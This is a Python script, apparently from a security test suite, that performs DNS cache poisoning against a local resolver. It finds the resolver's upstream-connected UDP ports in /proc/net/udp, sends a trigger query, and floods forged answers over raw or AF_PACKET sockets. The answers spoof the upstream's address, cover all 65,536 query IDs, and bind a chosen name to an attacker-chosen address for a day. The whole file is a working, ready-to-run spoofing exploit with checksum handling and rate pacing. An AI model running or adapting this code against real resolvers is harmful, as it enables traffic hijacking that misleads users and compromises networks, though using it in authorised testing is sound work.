#!/usr/bin/python3
"""Issue 9, class 6: forge upstream DNS answers to the local resolver's port.

Run as root (CAP_NET_RAW) on the filtered host. Reads the ports of the UDP
sockets connected to --upstream:53 from /proc/net/udp{,6} (as any local
user can), sends --name (type A or AAAA by --addr) to --upstream:53 with an
ordinary socket (host mode redirects it to egressd, which forwards it
upstream), and while that query is out floods forged answers with the
upstream's source address and port (an IP raw socket, or frames written to
lo with AF_PACKET: --via), every query ID, --rounds times (at most --rate a second), binding
--name to --addr (TTL 86400) on each port found. The forged question is
--name as sent (lowercase). Bounded: at most --rounds x 65536 packets per
port, at most --seconds. Prints JSON {"ports": [...], "tried": N, "sent": N,
"refused": N (send() failed with EPERM: a netfilter drop),
"answer": {...}, "elapsed": s}.
"""
import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(HERE, "servers"))
sys.path.insert(0, os.path.join(HERE, "evasion"))
import dnsmsg  # noqa: E402
import rawtcp  # noqa: E402


def proc_ports(upstream):
    """(local address, port) of the UDP sockets connected to upstream:53."""
    ip = ipaddress.ip_address(upstream)
    path = "/proc/net/udp6" if ip.version == 6 else "/proc/net/udp"
    out = []
    with open(path) as f:
        next(f)
        for line in f:
            cols = line.split()
            loc, rem = cols[1], cols[2]
            raddr, rport = rem.split(":")
            laddr, lport = loc.split(":")
            if int(rport, 16) != 53:
                continue

            def dec(h):
                b = bytes.fromhex(h)
                # /proc prints each 32-bit word in host (little endian) order
                b = b"".join(b[i:i + 4][::-1] for i in range(0, len(b), 4))
                return ipaddress.ip_address(b)
            if dec(raddr) == ip:
                out.append((str(dec(laddr)), int(lport, 16)))
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--upstream", required=True)
    ap.add_argument("--list-ports", action="store_true",
                    help="only print the ports of /proc/net/udp{,6} connected to --upstream")
    ap.add_argument("--name")
    ap.add_argument("--addr")
    ap.add_argument("--local", help="our address, if /proc shows a wildcard")
    ap.add_argument("--port", type=int, help="the resolver's port, known (from another "
                    "host: found by a scan); /proc is not read")
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--seconds", type=float, default=5)
    ap.add_argument("--via", choices=["raw", "packet"], default="raw",
                    help="raw: an IP raw socket (through the output hook); packet: frames "
                         "written to lo with AF_PACKET (straight to input)")
    ap.add_argument("--rate", type=int, default=40000, help="packets per second at most")
    a = ap.parse_args()
    if a.list_ports:
        print(json.dumps(proc_ports(a.upstream)))
        return
    if not (a.name and a.addr and a.local):
        ap.error("--name, --addr and --local are needed")
    t0 = time.monotonic()
    fam = socket.AF_INET6 if ":" in a.upstream else socket.AF_INET
    target = ipaddress.ip_address(a.addr)
    qtype = 28 if target.version == 6 else 1

    # the trigger: an ordinary query from an ordinary socket
    qid = random.randrange(65536)
    query = dnsmsg.build_query(qid, [(a.name, qtype, 1)])
    cs = socket.socket(fam, socket.SOCK_DGRAM)
    cs.setblocking(False)
    cs.sendto(query, (a.upstream, 53))

    ports = [(a.local, a.port)] if a.port else []
    while not ports and time.monotonic() - t0 < 1:
        ports = proc_ports(a.upstream)
        if not ports:
            time.sleep(0.002)

    # the forged answer; the ID (bytes 0-1) is patched per packet
    body = dnsmsg.build_query(0, [(a.name, qtype, 1)])[12:]
    ans = struct.pack("!HHHHHH", 0, 0x8180, 1, 1, 0, 0) + body + \
        struct.pack("!HHHIH", 0xC00C, qtype, 1, 86400, len(target.packed)) + target.packed
    if a.via == "raw":
        tx = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
    else:
        tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        tx.bind(("lo", 0))
    # lo's frames: zero MAC addresses, then the ethertype
    eth = b"\0" * 12 + struct.pack("!H", 0x0800 if fam == socket.AF_INET else 0x86DD)
    tx.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    sent = tried = refused = 0
    pkts = []
    for laddr, lport in ports:
        dst = a.local if ipaddress.ip_address(laddr).is_unspecified else laddr
        udp = struct.pack("!HHHH", 53, lport, 8 + len(ans), 0) + ans
        if fam == socket.AF_INET:
            pseudo = None
            tmpl = bytearray(rawtcp.ipv4(a.upstream, dst, 17, udp, 1))
            off = 20
        else:
            pseudo = socket.inet_pton(fam, a.upstream) + socket.inet_pton(fam, dst) + \
                struct.pack("!IxxxB", len(udp), 17)
            tmpl = bytearray(rawtcp.ipv6(a.upstream, dst, 17, udp))
            off = 40
        base = 0
        if pseudo is not None:
            data = pseudo + udp
            if len(data) % 2:
                data += b"\0"
            base = sum(struct.unpack("!%dH" % (len(data) // 2), data))
        if a.via == "packet":
            tmpl = bytearray(eth) + tmpl
            off += len(eth)
        pkts.append((dst, tmpl, off, base))
    answer = None
    tf = time.monotonic()
    for rnd in range(a.rounds if ports else 0):
        for dst, tmpl, off, base in pkts:
            for i in range(65536):
                struct.pack_into("!H", tmpl, off + 8, i)
                if base:
                    s = base + i
                    while s >> 16:
                        s = (s & 0xFFFF) + (s >> 16)
                    struct.pack_into("!H", tmpl, off + 6, (~s & 0xFFFF) or 0xFFFF)
                tried += 1
                try:
                    if a.via == "raw":
                        tx.sendto(tmpl, (dst, 0))
                    else:
                        tx.send(tmpl)
                    sent += 1
                except PermissionError:
                    refused += 1  # the output hook dropped it
                except OSError:
                    pass  # the buffer is full
                if i & 255 == 0:
                    # paced: a burst faster than the resolver reads overflows its socket
                    ahead = tried / a.rate - (time.monotonic() - tf)
                    if ahead > 0.002:
                        time.sleep(ahead)
                if i & 4095 == 0 and time.monotonic() - t0 > a.seconds:
                    break
        if time.monotonic() - t0 > a.seconds:
            break
    cs.settimeout(max(0.1, a.seconds - (time.monotonic() - t0)))
    try:
        while True:
            resp, _ = cs.recvfrom(4096)
            if resp[:2] == query[:2]:
                answer = dnsmsg.parse(resp)
                break
    except (socket.timeout, dnsmsg.BadMessage) as e:
        answer = {"error": str(e) or "timeout"}
    print(json.dumps({"ports": ports, "tried": tried, "sent": sent,
                      "refused": refused, "answer": answer,
                      "elapsed": time.monotonic() - t0}))


if __name__ == "__main__":
    main()
